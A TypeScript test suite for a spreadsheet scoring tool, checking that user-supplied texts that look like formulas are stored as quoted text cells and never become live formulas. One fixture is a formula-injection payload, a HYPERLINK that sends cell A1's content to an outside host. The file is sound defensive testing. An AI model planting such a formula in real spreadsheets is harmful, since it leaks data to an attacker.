import { OpcPackage } from '../../src/hosts/file/package/opc-package';
import { newWorkbookFile } from '../../src/hosts/file/workbook-file';
import { template } from '../../src/tasks/template';
import { readWithHucre, textsOf } from '../end-to-end/read-sheet';
import { declarations, ruleSet, settings, units } from '../workbook/small-workbook';
import { deskForEachTest, type Desk } from './call';
import { spoiltFile } from './workbooks';

/**
 * A text that looks like a formula is written back as text, under the format `@` and with the mark that Excel itself sets
 * (`quotePrefix`), so that it stays text when its cell is edited (issue 2).
 */
const desk = deskForEachTest();

const nasty = {
  name: '=HYPERLINK("http://vi.du/"&A1,"Sở Tài chính")',
  notAssessed: '=1+1',
  answer: '=tám mươi',
};

const workbook = spoiltFile(({ byKey, form }) => {
  byKey('units').set('C5', nasty.name).set('H8', nasty.notAssessed);
  form('STC').set('C3', nasty.name).set('E15', nasty.answer);
  return undefined;
});

interface TextCell {
  readonly at: string;
  readonly text: string;
  readonly format: string;
}

/** The text cells of the sheets that are not the user's, each with its cell format as the file has it. */
function ownTextCells(bytes: Uint8Array, usersSheets: number): readonly TextCell[] {
  const opc = OpcPackage.open(bytes);
  const formats = /<cellXfs.*?<\/cellXfs>/s.exec(opc.text('xl/styles.xml'))?.[0].match(/<xf [^>]*>/g) ?? [];
  const numberOf = (part: string) => Number(/^xl\/worksheets\/sheet(\d+)\.xml$/.exec(part)?.[1] ?? 0);
  return opc
    .parts()
    .filter((part) => numberOf(part) > usersSheets)
    .flatMap((part) => {
      const cells = opc.text(part).matchAll(/<c r="(\w+)"(?: s="(\d+)")? t="inlineStr"><is><t[^>]*>([^<]*)<\/t>/g);
      return [...cells].map(([, cell, style = '0', text = '']) => ({
        at: `${part}!${cell}`,
        text: text.replaceAll('&quot;', '"').replaceAll('&amp;', '&'),
        format: formats[Number(style)] ?? '',
      }));
    });
}

function formulasOf(bytes: Uint8Array): string[] {
  const opc = OpcPackage.open(bytes);
  const sheets = opc.parts().filter((part) => part.startsWith('xl/worksheets/sheet'));
  return sheets.flatMap((part) => opc.text(part).match(/<f[ >][^<]*<\/f>/g) ?? []);
}

async function scored(at: Desk, input: string, output: string): Promise<Uint8Array> {
  const { code } = await at.call('score', input, '--out', output, '--draft', '--at', '2017-02-07');
  expect(code).toBe(0);
  return at.bytes(output);
}

test('in the result every text is a text cell under @, and what begins like a formula is marked besides', async () => {
  desk().put('phieu.xlsx', workbook);
  const result = await scored(desk(), 'phieu.xlsx', 'ket-qua.xlsx');
  const cells = ownTextCells(result, 9);
  expect(cells.length).toBeGreaterThan(200);
  expect(cells.filter(({ format }) => !format.includes(' numFmtId="49"'))).toEqual([]);
  const dangerous = cells.filter(({ text }) => /^[=+\-@]/.test(text));
  expect(dangerous.filter(({ format }) => !format.includes('quotePrefix="1"'))).toEqual([]);
  expect(Object.values(nasty).filter((told) => !cells.some(({ text }) => text.includes(told)))).toEqual([]);
  expect(dangerous.map(({ text }) => text)).toContain(nasty.name);
  expect(formulasOf(result).join()).not.toMatch(/HYPERLINK|1\+1|tám mươi/);
});

test('another library reads them as the texts that they were', async () => {
  desk().put('phieu.xlsx', workbook);
  const sheets = await readWithHucre(await scored(desk(), 'phieu.xlsx', 'ket-qua.xlsx'));
  const textsBySheet = Object.fromEntries(sheets.map((sheet) => [sheet.name, textsOf(sheet)]));
  expect(textsBySheet['Tổng hợp điểm']).toContain(nasty.name);
  expect(textsBySheet['Không xếp hạng']).toContain(nasty.name);
  expect(textsBySheet['Điểm chi tiết']).toContain(nasty.name);
});

test('a second run gives the same bytes: nothing was lost, nothing became a formula', async () => {
  desk().put('phieu.xlsx', workbook);
  const once = await scored(desk(), 'phieu.xlsx', 'mot.xlsx');
  expect(Buffer.compare(await scored(desk(), 'mot.xlsx', 'hai.xlsx'), once)).toBe(0);
});

test('a template keeps such names as text on the list, on the forms and on the matrix', async () => {
  const nastyUnits = [{ code: '=S1', name: nasty.name, class: 'so', aliases: ['+Sở'], parent: '@x' }];
  desk().put('don-vi.json', JSON.stringify(nastyUnits));
  for (const form of [[], ['--matrix']]) {
    const args = ['--rule-set', 'binh-dinh-2016', '--units', 'don-vi.json', '--out', 'mau.xlsx'];
    expect((await desk().call('template', ...args, ...form)).code).toBe(0);
    const dangerous = ownTextCells(desk().bytes('mau.xlsx'), 0).filter(({ text }) => /^[=+\-@]/.test(text));
    expect(dangerous.filter(({ text }) => text === nasty.name).length).toBeGreaterThanOrEqual(2);
    expect(dangerous.map(({ text }) => text)).toEqual(expect.arrayContaining(['=S1', '+Sở', '@x']));
    for (const { format } of dangerous) expect(format).toMatch(/numFmtId="49".*quotePrefix="1"/);
    expect(formulasOf(desk().bytes('mau.xlsx')).join()).not.toContain('HYPERLINK');
    const { out } = await desk().call('check', 'mau.xlsx', '--json', '-');
    expect(out).not.toContain('unit-unknown');
  }
});

test('evidence and notes on filled forms are text too', async () => {
  const remarks = { evidence: '+84 256 3822 294', note: '@SUM(A1:A9)' };
  const filled = declarations.map((one) => ({ ...one, facts: one.facts.map((fact) => ({ ...fact, ...remarks })) }));
  for (const form of ['sheets', 'matrix'] as const) {
    const file = newWorkbookFile();
    await template(file.writer, { ruleSet, settings, units, form, declarations: filled }, {});
    const dangerous = ownTextCells(file.bytes(), 0).filter(({ text }) => /^[=+\-@]/.test(text));
    expect(new Set(dangerous.map(({ text }) => text))).toEqual(new Set(Object.values(remarks)));
    for (const { format } of dangerous) expect(format).toMatch(/numFmtId="49".*quotePrefix="1"/);
    desk().put('phieu.xlsx', file.bytes());
    expect((await desk().call('check', 'phieu.xlsx')).code).toBe(0);
  }
});
